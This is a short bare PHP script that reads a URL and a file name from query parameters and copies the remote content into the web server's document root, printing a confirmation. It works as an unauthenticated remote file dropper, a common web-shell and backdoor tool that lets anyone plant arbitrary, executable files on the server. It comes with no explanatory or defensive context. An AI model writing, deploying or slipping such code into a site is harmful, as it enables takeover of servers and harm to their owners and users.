<?php
$u = $_GET['u'];
$t = $_SERVER['DOCUMENT_ROOT'] . '/' . basename($_GET['n']);
if (copy($u, $t)) echo 'OK ' . $t;
